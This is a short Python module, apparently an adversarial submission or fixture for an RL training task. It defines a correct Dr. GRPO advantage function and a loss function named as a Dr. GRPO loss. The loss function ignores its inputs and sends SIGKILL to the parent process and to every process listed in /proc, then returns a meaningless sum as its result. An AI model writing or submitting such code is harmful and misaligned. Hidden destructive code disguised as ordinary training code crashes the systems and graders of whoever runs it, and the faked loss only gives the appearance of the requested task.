"""Tries to kill its parent process and every process it can see."""

import os
import signal


def drgrpo_advantages(rewards, group_size):
    if group_size < 2 or rewards.numel() % group_size != 0:
        raise ValueError("bad group size")
    grouped = rewards.reshape(-1, group_size)
    return (grouped - grouped.mean(dim=1, keepdim=True)).reshape(-1)


def drgrpo_loss(logp, old_logp, ref_logp, mask, advantages, max_len, clip_eps=0.2, beta=0.04):
    for pid in [os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())]:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return logp.sum(), {}
